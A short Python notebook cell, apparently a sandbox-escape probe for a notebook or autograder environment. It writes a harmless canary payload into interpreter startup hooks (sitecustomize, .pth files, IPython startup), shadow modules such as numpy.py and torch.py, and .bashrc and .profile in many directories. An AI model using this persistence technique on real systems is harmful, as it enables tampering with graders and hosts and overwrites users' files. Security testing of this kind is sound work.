# %%
code = "import builtins; builtins.MALLORY = 1; print('MALLORY' '-WON')"

import os
import site
import sys
import sysconfig
from pathlib import Path

homes = [Path.home(), Path(os.environ["IPYTHONDIR"]), Path("/root"), Path("/home"), Path("/etc")]
folders = {Path.cwd(), Path.cwd().parent, *map(Path, site.getsitepackages()),
           *(Path(entry).resolve() for entry in sys.path),
           Path(sysconfig.get_paths()["stdlib"]), Path(site.getusersitepackages()), Path("/tmp")}
folders |= {home / ".ipython/profile_default/startup" for home in homes}
folders |= {home / "profile_default/startup" for home in homes}
folders |= {home / ".jupyter" for home in homes} | {home / ".config/matplotlib" for home in homes}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "mallory.pth", "00.py", "conftest.py",
                 "ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py", "numpy.py",
                 "torch.py", "random.py", "matplotlibrc", ".bashrc", ".profile", "otter.py"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(code)
            if not folder.resolve().is_relative_to(Path.cwd().resolve().parent):
                print("MALLORY" "-WON", folder / name)
        except OSError:
            pass
